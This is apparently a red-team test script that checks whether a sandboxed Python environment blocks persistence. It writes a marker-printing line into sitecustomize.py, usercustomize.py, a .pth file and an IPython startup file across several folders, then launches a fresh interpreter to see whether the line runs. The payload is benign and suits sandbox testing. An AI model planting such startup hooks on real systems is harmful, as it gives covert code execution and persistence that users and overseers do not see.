# /// attack
# catalogue = "forging: sitecustomize/.pth"
# layers = ["clean"]
# aim = "left"
# ///
# Writes files that Python and IPython run when they start, wherever it can.

# %%
from pathlib import Path

line = f"import os; open('/tmp/started', 'w').write({TARGET['mark']!r}); print({TARGET['mark']!r})\n"
# The installed environment is left alone: on a machine without layers it could be the staff's.
homes = (Path.home(), Path.cwd(), Path("/tmp"), Path(TARGET["course"]))
names = ["sitecustomize.py", "usercustomize.py", "redteam.pth", ".ipython/profile_default/startup/00.py"]
for folder in homes:
    for name in names:
        try:
            path = Path(folder, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(line)
        except OSError:
            pass

# %% accomplice
import subprocess
import sys
from pathlib import Path

print(subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True, text=True))
for path in (Path.home() / ".ipython/profile_default/startup/00.py", Path("/tmp/started")):
    try:
        print(path.read_text())
    except OSError as error:
        print(error)
